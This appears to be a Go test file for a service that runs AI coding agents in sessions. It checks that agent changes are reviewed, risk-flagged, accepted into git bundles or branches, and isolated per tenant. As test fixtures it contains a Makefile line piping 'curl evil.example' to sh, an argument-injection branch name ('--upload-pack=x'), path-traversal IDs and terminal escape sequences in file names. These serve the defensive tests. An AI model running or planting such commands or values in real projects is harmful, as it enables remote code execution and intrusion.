package sessions

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/genproto/googleapis/api/httpbody"
	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/emptypb"

	aiboxv1 "aibox/api/aibox/v1"
	"aibox/api/budget"
	"aibox/app/agentsession"
	"aibox/audit"
	"aibox/config"
	"aibox/internal/fault"
	"aibox/review"
	"aibox/session"
	"aibox/session/feedback"
	"aibox/session/manager"
)

// edited has two hunks in a.txt.
var edited = "first\n" + strings.Repeat("same\n", 18) + "last\n"

func ask[T any](message *T) *connect.Request[T] { return connect.NewRequest(message) }

func TestChangesAreListedWithRisksAndHunks(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited, "new\x1b]0;x\x07.txt": "new\n", "Makefile": "all:\n\tcurl evil.example | sh\n"})
	set, err := f.as("ann").Changes(bounded(t), ask(&aiboxv1.SessionChangesRequest{SessionId: "00001-codex"}))
	if err != nil {
		t.Fatal(err)
	}
	files := set.Msg.GetFiles()
	if len(files) != 3 || files[0].GetPath() != "Makefile" || len(files[0].GetRisks()) == 0 || set.Msg.GetDigest() == "" {
		t.Fatalf("the changes are %v", set.Msg)
	}
	edit := slices.IndexFunc(files, func(c *aiboxv1.FileChange) bool { return c.GetPath() == "a.txt" })
	if edit < 0 {
		t.Fatalf("the changes are %v", set.Msg)
	}
	hunks := files[edit].GetHunks()
	if len(hunks) != 2 || hunks[1].GetNumber() != 2 || !strings.Contains(hunks[0].GetDiff(), "+first") || !strings.Contains(hunks[1].GetDiff(), "+last") {
		t.Errorf("the hunks are %v", hunks)
	}
	if text := fmt.Sprint(set.Msg); strings.ContainsAny(text, "\x1b\x07") {
		t.Errorf("control characters are returned: %q", text)
	}
	diff, err := f.as("ann").Diff(bounded(t), ask(&aiboxv1.SessionDiffRequest{SessionId: "00001-codex", Paths: []string{"a.txt"}}))
	if err != nil || !strings.Contains(string(diff.Msg.GetPatch()), "+last") || strings.Contains(string(diff.Msg.GetPatch()), "evil") || diff.Msg.GetDigest() != set.Msg.GetDigest() {
		t.Errorf("the patch is %v, %v", diff, err)
	}
}

func TestPartsAreAcceptedIntoABundleThatChangesNothingInTheRepository(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited, "new.txt": "new\n"})
	before := f.contents(f.repo)
	ann := f.as("ann")
	for round, want := range []string{"a.txt\n", "a.txt\nnew.txt\n"} {
		request := &aiboxv1.AcceptChangesRequest{SessionId: "00001-codex", Branch: fmt.Sprintf("work/%d", round), Message: "A part"}
		if round == 0 {
			request.Files = []*aiboxv1.FileSelection{{Path: "a.txt", Hunks: []int32{2}}}
		}
		accepted, err := ann.Accept(bounded(t), ask(request))
		if err != nil {
			t.Fatal(err)
		}
		if now := f.contents(f.repo); now != before {
			t.Fatalf("the repository has changed:\n%s\nnot\n%s", now, before)
		}
		file := filepath.Join(t.TempDir(), "bundle")
		f.must(os.WriteFile(file, accepted.Msg.GetBundle(), 0o600))
		clone := filepath.Join(t.TempDir(), "clone")
		f.git(f.repo, "clone", "-q", f.repo, clone)
		f.git(clone, "bundle", "verify", file)
		f.git(clone, "fetch", "-q", file, request.GetBranch()+":taken")
		if got := f.git(clone, "diff", "--name-only", "main", "taken"); got != want || strings.TrimSpace(f.git(clone, "rev-parse", "taken")) != accepted.Msg.GetCommit() {
			t.Errorf("bundle %d changes %q", round, got)
		}
		if text := f.git(clone, "show", "taken:a.txt"); !strings.HasSuffix(text, "last\n") || strings.HasPrefix(text, "first") != (round == 1) {
			t.Errorf("bundle %d has %q", round, text)
		}
		if got := f.git(clone, "log", "-1", "--format=%an %s", "taken"); got != "Ann A part\n" {
			t.Errorf("the commit is %q", got)
		}
	}
	if _, err := ann.Accept(bounded(t), ask(&aiboxv1.AcceptChangesRequest{SessionId: "00001-codex"})); connect.CodeOf(err) == 0 || err == nil {
		t.Errorf("all is accepted again: %v", err)
	}
}

func TestABundleThatIsTooLargeAcceptsNothing(t *testing.T) {
	for name, of := range map[string]string{"of the user's repository": "", "of an uploaded tree": "trees/ann/tree-1"} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			if of != "" {
				tree := filepath.Join(f.dirs.Home, of)
				f.git(f.repo, "clone", "-q", f.repo, tree)
				f.repo = tree
			}
			f.ended("00001-codex", map[string]string{"1.txt": "1\n", "2.txt": "2\n"})
			ann := f.as("ann")
			accept := func(bundle int, file string) ([]byte, error) {
				f.bundle = bundle
				accepted, err := ann.Accept(bounded(t), ask(&aiboxv1.AcceptChangesRequest{SessionId: "00001-codex", Files: []*aiboxv1.FileSelection{{Path: file}}}))
				if err != nil {
					return nil, err
				}
				return accepted.Msg.GetBundle(), nil
			}
			// The first one makes the branch of a tree, and the second one continues it.
			for round, file := range []string{"1.txt", "2.txt"} {
				before := f.git(f.repo, "for-each-ref")
				if _, err := accept(10, file); err == nil || !strings.Contains(err.Error(), "larger than") {
					t.Errorf("round %d: a bundle of more than 10 bytes: %v", round, err)
				}
				if now := f.git(f.repo, "for-each-ref"); now != before {
					t.Errorf("round %d: the refs are\n%s, and were\n%s", round, now, before)
				}
				if bundle, err := accept(0, file); err != nil || len(bundle) == 0 {
					t.Errorf("round %d: the same changes again: %d bytes, %v", round, len(bundle), err)
				}
			}
		})
	}
}

func TestBundlesAndPatchesHaveAMaximumSize(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited})
	f.bundle = 10
	if _, err := f.as("ann").Accept(bounded(t), ask(&aiboxv1.AcceptChangesRequest{SessionId: "00001-codex"})); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("a bundle of more than 10 bytes: %v", err)
	}
	var patch io.Writer = newPatch() // processes are copied from by io.Copy
	if _, err := io.Copy(patch, io.LimitReader(rand.Reader, maxPatch+1)); fault.KindOf(err) != fault.Limit {
		t.Errorf("a patch of more than %d bytes: %v", maxPatch, err)
	}
}

func TestAnswersWithChangesTakeFromTheBudgetOfTheTenant(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited})
	f.budget = budget.New("the answers that %s collects at once", 1<<30, 1<<20)
	ann, ctx := f.as("ann"), bounded(t)
	_, changes := ann.Changes(ctx, ask(&aiboxv1.SessionChangesRequest{SessionId: "00001-codex"}))
	_, diff := ann.Diff(ctx, ask(&aiboxv1.SessionDiffRequest{SessionId: "00001-codex"}))
	_, bundle := ann.Accept(ctx, ask(&aiboxv1.AcceptChangesRequest{SessionId: "00001-codex"}))
	for name, err := range map[string]error{"Changes": changes, "Diff": diff, "a bundle": bundle} {
		if err == nil || !strings.Contains(err.Error(), "more than 1 MiB") {
			t.Errorf("%s: %v", name, err)
		}
	}
	branch := &aiboxv1.AcceptChangesRequest{SessionId: "00001-codex", Target: aiboxv1.AcceptTarget_ACCEPT_TARGET_BRANCH, Branch: "work"}
	if _, err := ann.Accept(ctx, ask(branch)); err != nil {
		t.Errorf("a branch, which is no answer: %v", err)
	}
}

func TestABundleAndABranchHoldEachOthersEarlierWork(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"1.txt": "1\n", "2.txt": "2\n", "3.txt": "3\n"})
	for n, target := range []aiboxv1.AcceptTarget{aiboxv1.AcceptTarget_ACCEPT_TARGET_BRANCH, aiboxv1.AcceptTarget_ACCEPT_TARGET_BUNDLE, aiboxv1.AcceptTarget_ACCEPT_TARGET_BRANCH} {
		accepted, err := f.as("ann").Accept(bounded(t), ask(&aiboxv1.AcceptChangesRequest{
			SessionId: "00001-codex", Target: target, Files: []*aiboxv1.FileSelection{{Path: fmt.Sprintf("%d.txt", n+1)}},
		}))
		if err != nil || accepted.Msg.GetBranch() != "aibox/00001-codex" || (len(accepted.Msg.GetBundle()) > 0) != (n == 1) {
			t.Fatalf("accept %d: %v %v", n, accepted, err)
		}
	}
	if got := f.git(f.repo, "diff", "--name-only", "main", "aibox/00001-codex"); got != "1.txt\n2.txt\n3.txt\n" {
		t.Errorf("the branch changes %q", got)
	}
	if got := f.git(f.repo, "rev-list", "--count", "main..aibox/00001-codex"); got != "2\n" {
		t.Errorf("the branch has %q commits", got)
	}
}

// contents lists every file of a folder with its size, and git's view of it.
func (f *fixture) contents(dir string) string {
	f.t.Helper()
	var all []string
	f.must(filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			all = append(all, fmt.Sprint(path, info.Size(), info.ModTime().UnixNano()))
		}
		return err
	}))
	return strings.Join(all, "\n")
}

func TestAcceptRefusesUnreadAndUnnamedChanges(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited, "Makefile": "all:\n\tcurl evil.example | sh\n"})
	ann := f.as("ann")
	branch := aiboxv1.AcceptTarget_ACCEPT_TARGET_BRANCH
	for name, c := range map[string]struct {
		request *aiboxv1.AcceptChangesRequest
		kind    fault.Kind
	}{
		"another digest": {&aiboxv1.AcceptChangesRequest{Digest: strings.Repeat("0", 40)}, fault.Conflict},
		"no such file":   {&aiboxv1.AcceptChangesRequest{Files: []*aiboxv1.FileSelection{{Path: "no"}}}, fault.Usage},
		"no such hunk":   {&aiboxv1.AcceptChangesRequest{Files: []*aiboxv1.FileSelection{{Path: "a.txt", Hunks: []int32{3}}}}, fault.Usage},
		"a file twice":   {&aiboxv1.AcceptChangesRequest{Files: []*aiboxv1.FileSelection{{Path: "a.txt"}, {Path: "a.txt", Hunks: []int32{1}}}}, fault.Usage},
		"a hunk below 1": {&aiboxv1.AcceptChangesRequest{Files: []*aiboxv1.FileSelection{{Path: "a.txt", Hunks: []int32{-1}}}}, fault.Usage},
		"a branch there": {&aiboxv1.AcceptChangesRequest{Target: branch, Branch: "main"}, fault.Conflict},
		"no branch name": {&aiboxv1.AcceptChangesRequest{Branch: "--upload-pack=x"}, fault.Usage},
		"no ref":         {&aiboxv1.AcceptChangesRequest{Branch: "a/../b"}, fault.Usage},
		"no session":     {&aiboxv1.AcceptChangesRequest{SessionId: "00009-codex"}, fault.NotFound},
	} {
		if c.request.SessionId == "" {
			c.request.SessionId = "00001-codex"
		}
		_, err := ann.Accept(bounded(t), ask(c.request))
		if err == nil {
			t.Errorf("%s: it is accepted", name)
		}
	}
	// All means all without risks. A file that is named is accepted despite its risks.
	accepted, err := ann.Accept(bounded(t), ask(&aiboxv1.AcceptChangesRequest{SessionId: "00001-codex", Target: branch, Branch: "part"}))
	if err != nil || !slices.Equal(accepted.Msg.GetPaths(), []string{"a.txt"}) || accepted.Msg.GetBranch() != "part" {
		t.Errorf("all: %v %v", accepted, err)
	}
	accepted, err = ann.Accept(bounded(t), ask(&aiboxv1.AcceptChangesRequest{SessionId: "00001-codex", Target: branch, Files: []*aiboxv1.FileSelection{{Path: "Makefile"}}}))
	if err != nil || !slices.Contains(accepted.Msg.GetPaths(), "Makefile") || f.git(f.repo, "diff", "--name-only", "main", "part") != "Makefile\na.txt\n" {
		t.Errorf("the file with risks: %v %v", accepted, err)
	}
}

func TestNoTenantReachesASessionOfAnother(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited})
	ctx := bounded(t)
	for _, tenant := range []string{"ben", "local", "ANN", ""} {
		c := f.as(tenant)
		list, err := c.List(ctx, ask(&aiboxv1.ListSessionsRequest{}))
		if tenant != "" && (err != nil || len(list.Msg.GetSessions()) != 0) {
			t.Errorf("%q lists %v %v", tenant, list, err)
		}
		for name, call := range everyCall(ctx, c, "00001-codex") {
			err, missing := call(), everyCall(ctx, c, "00009-codex")[name]()
			if err == nil || strings.ReplaceAll(err.Error(), "00001", "N") != strings.ReplaceAll(missing.Error(), "00009", "N") {
				t.Errorf("%s as %q: %v, and for a missing one %v", name, tenant, err, missing)
			}
		}
	}
	if _, err := f.as("ann").Get(ctx, ask(&aiboxv1.GetSessionRequest{SessionId: "00001-codex"})); err != nil {
		t.Error(err)
	}
}

type client interface {
	Get(context.Context, *connect.Request[aiboxv1.GetSessionRequest]) (*connect.Response[aiboxv1.Session], error)
	Events(context.Context, *connect.Request[aiboxv1.SessionEventsRequest]) (*connect.ServerStreamForClient[aiboxv1.SessionEvent], error)
	Changes(context.Context, *connect.Request[aiboxv1.SessionChangesRequest]) (*connect.Response[aiboxv1.ChangeSet], error)
	Diff(context.Context, *connect.Request[aiboxv1.SessionDiffRequest]) (*connect.Response[aiboxv1.SessionDiffResponse], error)
	Accept(context.Context, *connect.Request[aiboxv1.AcceptChangesRequest]) (*connect.Response[aiboxv1.AcceptChangesResponse], error)
	Feedback(context.Context, *connect.Request[aiboxv1.SessionFeedbackRequest]) (*connect.Response[aiboxv1.Session], error)
	Stop(context.Context, *connect.Request[aiboxv1.StopSessionRequest]) (*connect.Response[aiboxv1.Session], error)
	Delete(context.Context, *connect.Request[aiboxv1.DeleteSessionRequest]) (*connect.Response[emptypb.Empty], error)
}

func TestEveryCallIsAllThatNameASession(t *testing.T) {
	calls := everyCall(t.Context(), nil, "")
	methods := aiboxv1.File_aibox_v1_sessions_proto.Services().ByName("Sessions").Methods()
	for i := range methods.Len() {
		name := string(methods.Get(i).Name())
		if named := methods.Get(i).Input().Fields().ByName("session_id") != nil; named != (calls[name] != nil) {
			t.Errorf("%s names a session: %v", name, named)
		}
	}
}

// everyCall has all calls that name a session.
func everyCall(ctx context.Context, c client, id string) map[string]func() error {
	return map[string]func() error{
		"Get":     func() error { _, err := c.Get(ctx, ask(&aiboxv1.GetSessionRequest{SessionId: id})); return err },
		"Changes": func() error { _, err := c.Changes(ctx, ask(&aiboxv1.SessionChangesRequest{SessionId: id})); return err },
		"Diff":    func() error { _, err := c.Diff(ctx, ask(&aiboxv1.SessionDiffRequest{SessionId: id})); return err },
		"Accept":  func() error { _, err := c.Accept(ctx, ask(&aiboxv1.AcceptChangesRequest{SessionId: id})); return err },
		"Feedback": func() error {
			_, err := c.Feedback(ctx, ask(&aiboxv1.SessionFeedbackRequest{SessionId: id, Prompt: "p"}))
			return err
		},
		"Stop":   func() error { _, err := c.Stop(ctx, ask(&aiboxv1.StopSessionRequest{SessionId: id})); return err },
		"Delete": func() error { _, err := c.Delete(ctx, ask(&aiboxv1.DeleteSessionRequest{SessionId: id})); return err },
		"Events": func() error {
			stream, err := c.Events(ctx, ask(&aiboxv1.SessionEventsRequest{SessionId: id}))
			if err != nil {
				return err
			}
			for stream.Receive() {
			}
			return stream.Err()
		},
	}
}

func TestEventsAreReadAgainFromAnyNumber(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", nil)
	log, err := audit.Open(filepath.Join(f.dirs.Sessions(), "00001-codex", "audit.jsonl"))
	f.must(err)
	for i := range 5 {
		_, err := log.Append(audit.StopRequested, map[string]any{"reason": fmt.Sprintf("%d \x1b]0;x\x07", i)})
		f.must(err)
	}
	f.must(log.Close())
	for from, want := range map[int64][]int64{0: {1, 2, 3, 4, 5}, 1: {1, 2, 3, 4, 5}, 4: {4, 5}, 6: nil} {
		stream, err := f.as("ann").Events(bounded(t), ask(&aiboxv1.SessionEventsRequest{SessionId: "00001-codex", FromSeq: from}))
		f.must(err)
		var got []int64
		for stream.Receive() {
			e := stream.Msg()
			got = append(got, e.GetSeq())
			if e.GetKind() != string(audit.StopRequested) || e.GetMessage() != "stop requested" || strings.ContainsRune(e.GetDetailsJson(), 0x1b) {
				t.Errorf("an event is %v", e)
			}
		}
		if stream.Err() != nil || !slices.Equal(got, want) {
			t.Errorf("from %d: %v, %v", from, got, stream.Err())
		}
	}
	stream, err := f.as("ann").Events(bounded(t), ask(&aiboxv1.SessionEventsRequest{SessionId: "00001-codex", FromSeq: -3}))
	f.must(err)
	if stream.Receive() || !strings.Contains(stream.Err().Error(), "from_seq") {
		t.Errorf("from -3: %v, %v", stream.Msg(), stream.Err())
	}
}

// A call is repeated if the server was killed in it, before the next session was started.
func TestFeedbackThatIsRepeatedIsStoredOnce(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited})
	all := manager.New(manager.Deps{Dirs: f.dirs})
	cases := &agentsession.Service{Sessions: all, Policy: agentsession.Policy{Tenant: "ann", AnyRepository: true}}
	var hunk review.HunkID
	f.must(cases.Files(bounded(t), "00001-codex", nil, func(file review.FileDiff) error {
		hunk = file.Hunks[0].ID
		return nil
	}))
	given := []feedback.Comment{{Text: " shorter, please "}, {Text: "here", Path: "a.txt", Line: 1}, {Text: "here", Path: "a.txt", Line: 2}, {Text: "here", Hunk: hunk[:12]}, {Text: "here"}}
	for _, comment := range given {
		_, err := all.Comment(bounded(t), "00001-codex", comment)
		f.must(err)
	}
	given[3].Hunk = review.HunkID(strings.ToUpper(string(given[3].Hunk)))
	var stored feedback.Feedback
	cases.Defaults = func(context.Context, session.Tenant) (_ config.RunOverrides, err error) { // called after the feedback is stored
		stored, err = all.Feedback("00001-codex")
		f.must(err)
		return config.RunOverrides{}, errors.New("no")
	}
	if _, err := cases.SendFeedback(bounded(t), "00001-codex", agentsession.Feedback{Addition: feedback.Addition{Comments: given}}, nil); err == nil {
		t.Error("a session starts")
	}
	if len(stored.Comments) != len(given) {
		t.Errorf("stored are %+v", stored.Comments)
	}
}

// The agent would receive the feedback of all failed calls with that of the one that succeeds.
func TestFeedbackIsTakenBackIfNoSessionIsStarted(t *testing.T) {
	f := newFixture(t)
	f.ended("00001-codex", map[string]string{"a.txt": edited, "b.txt": edited})
	all := manager.New(manager.Deps{Dirs: f.dirs})
	cases := &agentsession.Service{Sessions: all, Policy: agentsession.Policy{Tenant: "ann", AnyRepository: true}}
	var hunks []review.HunkID
	f.must(cases.Files(bounded(t), "00001-codex", nil, func(file review.FileDiff) error {
		hunks = append(hunks, file.Hunks[0].ID)
		return nil
	}))
	_, err := all.Comment(bounded(t), "00001-codex", feedback.Comment{Text: "earlier"})
	f.must(err)
	f.must(all.Reject(bounded(t), "00001-codex", hunks[:1], "too long"))
	before, err := all.Feedback("00001-codex")
	f.must(err)
	check := func(what string) {
		t.Helper()
		stored, err := all.Feedback("00001-codex")
		f.must(err)
		if !stored.Equal(before) {
			t.Errorf("%s: stored are %+v and %+v", what, stored.Comments, stored.Rejected)
		}
	}
	given := agentsession.Feedback{Addition: feedback.Addition{Comments: []feedback.Comment{{Text: "earlier"}, {Text: "later"}}, Reject: hunks, Reason: "wrong"}}
	wrong := agentsession.Feedback{Addition: feedback.Addition{Comments: []feedback.Comment{{Text: "here"}, {Text: "there", Path: "no.txt", Line: 1}}}}
	canceled, cancel := context.WithCancel(bounded(t))
	defer cancel()
	cases.Defaults = func(context.Context, session.Tenant) (config.RunOverrides, error) { // called after the feedback is stored
		if stored, err := all.Feedback("00001-codex"); err != nil || len(stored.Comments) != 2 || len(stored.Rejected) != 2 {
			t.Errorf("stored before the start are %+v, %v", stored, err)
		}
		cancel()
		return config.RunOverrides{}, errors.New("no")
	}
	if _, err := cases.SendFeedback(canceled, "00001-codex", given, nil); err == nil || err.Error() != "no" {
		t.Errorf("a start that fails: %v", err)
	}
	check("a start that fails")
	if _, err := cases.SendFeedback(bounded(t), "00001-codex", wrong, nil); err == nil || !strings.Contains(err.Error(), "no.txt") {
		t.Errorf("a comment on no file: %v", err)
	}
	check("half of it is wrong")
	if _, err := cases.SendFeedback(bounded(t), "00001-codex", agentsession.Feedback{Addition: feedback.Addition{Reason: "a reason alone"}}, nil); fault.KindOf(err) != fault.Usage {
		t.Errorf("no feedback: %v", err)
	}
	f.unstarted = errors.New("no")
	_, err = f.as("ann").Feedback(bounded(t), ask(&aiboxv1.SessionFeedbackRequest{SessionId: "00001-codex", Comments: []*aiboxv1.Comment{{Text: "later"}}}))
	if err == nil || !strings.Contains(err.Error(), "no") {
		t.Errorf("the call: %v", err)
	}
	check("a call")
	cases.Defaults = func(context.Context, session.Tenant) (config.RunOverrides, error) {
		f.must(all.Reject(bounded(t), "00001-codex", hunks[1:], "of the user"))
		return config.RunOverrides{}, errors.New("no")
	}
	if _, err := cases.SendFeedback(bounded(t), "00001-codex", agentsession.Feedback{Prompt: "go on"}, nil); err == nil {
		t.Error("a session starts")
	}
	if stored, err := all.Feedback("00001-codex"); err != nil || len(stored.Comments) != 1 || len(stored.Rejected) != 2 {
		t.Errorf("a rejection of the user during the start: stored are %+v, %v", stored, err)
	}
}

// A path is named as answers have it: escaped.
func TestFeedbackNamesFilesAsAnswersDo(t *testing.T) {
	f := newFixture(t)
	const name = "a\nb.txt"
	f.ended("00001-codex", map[string]string{name: edited, "c.txt": edited})
	shown := review.Path(name).String()
	cases := &agentsession.Service{Sessions: manager.New(manager.Deps{Dirs: f.dirs}), Policy: agentsession.Policy{Tenant: "ann", AnyRepository: true}}
	given, err := fromComments(bounded(t), cases, "00001-codex", []*aiboxv1.Comment{
		{Path: shown, Text: "as a whole"}, {Path: shown, Hunk: 1, Text: "here"}, {Path: shown, Reject: true}, {Path: "c.txt", Hunk: 1, Reject: true},
	})
	f.must(err)
	if len(given.Comments) != 2 || given.Comments[0].Path != name || given.Comments[1].Hunk == "" || len(given.Reject) < 2 {
		t.Errorf("the feedback is %+v", given)
	}
}

func TestListsHaveFiltersAndPages(t *testing.T) {
	f := newFixture(t)
	for _, id := range []string{"00001-codex", "00002-codex", "00003-codex"} {
		f.ended(session.ID(id), nil)
	}
	list := func(r *aiboxv1.ListSessionsRequest) (ids []string, next string) {
		t.Helper()
		page, err := f.as("ann").List(bounded(t), ask(r))
		f.must(err)
		for _, s := range page.Msg.GetSessions() {
			ids = append(ids, s.GetSessionId()[:5])
		}
		return ids, page.Msg.GetNextPageToken()
	}
	first, next := list(&aiboxv1.ListSessionsRequest{PageSize: 2})
	rest, end := list(&aiboxv1.ListSessionsRequest{PageSize: 2, PageToken: next})
	if all := append(first, rest...); !slices.Equal(all, []string{"00003", "00002", "00001"}) || end != "" {
		t.Errorf("the pages are %v, %v %q", first, rest, end)
	}
	var each []string
	for token, begun := "", false; token != "" || !begun; begun = true {
		var page []string
		page, token = list(&aiboxv1.ListSessionsRequest{PageSize: 1, PageToken: token})
		each = append(each, page...)
	}
	if !slices.Equal(each, []string{"00003", "00002", "00001"}) {
		t.Errorf("the pages of one session are %v", each)
	}
	for want, r := range map[string]*aiboxv1.ListSessionsRequest{
		"[00002]": {Metadata: []string{"job=00002"}}, "[]": {Metadata: []string{"job=00009"}}, "[00003 00002 00001]": {Agent: "codex", States: []aiboxv1.SessionState{aiboxv1.SessionState_SESSION_STATE_DONE}},
	} {
		if got, _ := list(r); fmt.Sprint(got) != want {
			t.Errorf("%v lists %v", r, got)
		}
	}
	for _, r := range []*aiboxv1.ListSessionsRequest{{PageSize: -1}, {PageSize: 1001}, {PageToken: "../x"}, {Metadata: []string{"job=00002", "job=00001"}}, {Metadata: []string{"job"}}} {
		if _, err := f.as("ann").List(bounded(t), ask(r)); err == nil {
			t.Errorf("%v is accepted", r)
		}
	}
}

func TestAnAgentGetsTheTimeToEndThatTheCallerGives(t *testing.T) {
	for _, c := range []struct {
		given *durationpb.Duration
		want  time.Duration
	}{
		{nil, 10 * time.Second},
		{durationpb.New(0), time.Millisecond},
		{durationpb.New(time.Minute), time.Minute},
		{durationpb.New(10 * time.Minute), 10 * time.Minute},
		{durationpb.New(10*time.Minute + 1), -1},
		{durationpb.New(-1), -1},
		{&durationpb.Duration{Seconds: 1 << 62}, -1},
	} {
		got, err := graceOf(&aiboxv1.StopSessionRequest{Grace: c.given})
		if (err != nil) != (c.want < 0) || err == nil && got != c.want || err != nil && fault.KindOf(err) != fault.Usage {
			t.Errorf("%v: %v, %v", c.given, got, err)
		}
	}
	f := newFixture(t)
	f.ended("00001-codex", nil)
	stopped, err := f.as("ann").Stop(bounded(t), ask(&aiboxv1.StopSessionRequest{SessionId: "00001-codex"}))
	if err != nil || stopped.Msg.GetState() != aiboxv1.SessionState_SESSION_STATE_DONE {
		t.Errorf("a session that has ended: %v %v", stopped, err)
	}
}

func TestATreeIsUploadedInPieces(t *testing.T) {
	f := newFixture(t)
	data := archive(t, map[string]string{"a.txt": strings.Repeat("a", 100_000), "dir/b.txt": "b"})
	upload := func(tenant string, data []byte) (string, error) {
		stream := f.as(tenant).UploadTree(bounded(t))
		for piece := range slices.Chunk(data, 10_000) {
			if stream.Send(&aiboxv1.UploadTreeRequest{Archive: &httpbody.HttpBody{Data: piece}}) != nil {
				break
			}
		}
		tree, err := stream.CloseAndReceive()
		if err != nil {
			return "", err
		}
		return tree.Msg.GetTreeId(), nil
	}
	id, err := upload("ben", data)
	if err != nil {
		t.Fatal(err)
	}
	if got := f.git(filepath.Join(f.dirs.Home, "trees/ben", id), "ls-files"); got != "a.txt\ndir/b.txt\n" {
		t.Errorf("the tree has %q", got)
	}
	for name, data := range map[string][]byte{"half of it": data[:50_000], "no archive": []byte(strings.Repeat("x", 2000))} {
		if _, err := upload("ben", data); err == nil {
			t.Errorf("%s is accepted", name)
		}
	}
	if _, err := upload("", data); err == nil {
		t.Error("a caller without a tenant uploads")
	}
	if left, _ := os.ReadDir(filepath.Join(f.dirs.Home, "trees/ben")); len(left) != 1 {
		t.Errorf("%d trees are there", len(left))
	}
	// A tree of one tenant does not exist for another.
	for _, r := range []*aiboxv1.StartSessionRequest{
		{Source: &aiboxv1.StartSessionRequest_TreeId{TreeId: id}, Prompt: "p"},
		{Source: &aiboxv1.StartSessionRequest_TreeId{TreeId: "../ben/" + id}, Prompt: "p"},
		{Source: &aiboxv1.StartSessionRequest_Repository{Repository: "relative"}, Prompt: "p"},
		{Prompt: "p"},
		{Agent: "codex,claude", Source: &aiboxv1.StartSessionRequest_Repository{Repository: f.repo}},
		{Source: &aiboxv1.StartSessionRequest_Repository{Repository: f.repo}, Settings: map[string]string{"no-such": "x"}},
		{Source: &aiboxv1.StartSessionRequest_Repository{Repository: f.repo}, Settings: map[string]string{"memory": "1"}, Limits: &aiboxv1.Limits{MemoryMib: new(int64)}},
		{Source: &aiboxv1.StartSessionRequest_Repository{Repository: f.repo}, Network: &aiboxv1.NetworkPolicy{Mode: 99}},
		{Source: &aiboxv1.StartSessionRequest_Repository{Repository: f.repo}, Metadata: map[string]string{"": "x"}},
	} {
		if _, err := f.as("ann").Start(bounded(t), ask(r)); err == nil {
			t.Errorf("%v is started", r)
		}
	}
	f.rights = []aiboxv1.Right{aiboxv1.Right_RIGHT_READ, aiboxv1.Right_RIGHT_SESSIONS}
	for needs, all := range map[bool][]*aiboxv1.StartSessionRequest{
		true: {
			{Network: &aiboxv1.NetworkPolicy{}},
			{Settings: map[string]string{"network": "public"}},
			{Settings: map[string]string{"mount": "/home/ann:/a"}},
			{Agent: "claude", Options: map[string]string{"small-model": "m"}},
			{Options: map[string]string{"small-model": ""}},
			{Agent: "amp"},
		},
		false: {{}, {Agent: "codex", Options: map[string]string{"effort": "high"}}, {Settings: map[string]string{"timeout": "10m"}}, {Limits: &aiboxv1.Limits{}}},
	} {
		for _, r := range all {
			_, err := f.as("ann").Start(bounded(t), ask(r))
			if refused := err != nil && strings.Contains(err.Error(), "the right network"); refused != needs {
				t.Errorf("%v without the right network: %v", r, err)
			}
		}
	}
	f.rights = nil
	if _, err := f.as("cat").Start(bounded(t), ask(&aiboxv1.StartSessionRequest{Source: &aiboxv1.StartSessionRequest_Repository{Repository: f.repo}, Prompt: "p"})); err == nil {
		t.Error("a tenant uses the user's repository")
	}
}
